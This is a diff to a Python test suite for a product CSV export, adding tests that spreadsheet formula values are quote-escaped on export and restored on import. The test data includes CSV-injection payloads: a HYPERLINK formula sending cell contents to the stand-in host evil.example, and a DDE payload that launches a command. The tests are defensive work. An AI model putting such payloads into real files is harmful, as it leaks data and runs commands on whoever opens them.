@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import io
 import json
@@ -43,7 +44,7 @@ LAMP = ExportedProduct(
     is_active=False,
     image_upload_id=None,
 )
-# What no spreadsheet should make a formula of: the export keeps it as it is (a data file).
+# What a spreadsheet would run as a formula: quoted in the CSV, taken back by the import.
 MINUS = ExportedProduct(
     sku="MINUS-3",
     name="-20% =SUM(A1) @home",
@@ -67,7 +68,7 @@ def test_csv_is_the_import_format_every_column_in_order() -> None:
     assert export_bytes([MUG, MINUS], "csv").decode() == (
         ",".join(COLUMNS) + "\r\n"
         f"MUG-1,Mug,A mug.,12.50,,7,5,kitchen|sale,true,{IMAGE}\r\n"
-        "MINUS-3,-20% =SUM(A1) @home,=1+2,0.10,0.20,2147483647,3,kitchen,true,\r\n"
+        "MINUS-3,'-20% =SUM(A1) @home,'=1+2,0.10,0.20,2147483647,3,kitchen,true,\r\n"
     )
 
 
@@ -211,3 +212,25 @@ def test_an_export_streams_to_storage(fmt: str, app_ctx: None) -> None:
         assert stored == export_bytes(products, fmt)
     finally:
         storage.delete(key)
+
+
+@pytest.mark.parametrize(
+    ("stored", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("+1", "'+1"),
+        ("-20% off", "'-20% off"),
+        ("\tTabbed", "'\tTabbed"),
+        ("'=already quoted", "''=already quoted"),  # one more quote, so the import gives this back
+        ("'Tis the season", "'Tis the season"),  # a quote before no trigger: left alone
+        ("Plain", "Plain"),
+    ],
+)
+def test_a_formula_is_quoted_in_the_csv_and_the_import_gives_the_value_back(stored: str, written: str) -> None:
+    product = dataclasses.replace(MUG, name=stored, description=stored)
+    line = export_bytes([product], "csv").decode().split("\r\n", 1)[1]
+    cells = next(csv.reader(io.StringIO(line)))
+    assert cells[1] == cells[2] == written
+    (row,) = read_rows(io.BytesIO(export_bytes([product], "csv")), content_type=CSV)
+    assert row.values["name"] == row.values["description"] == stored
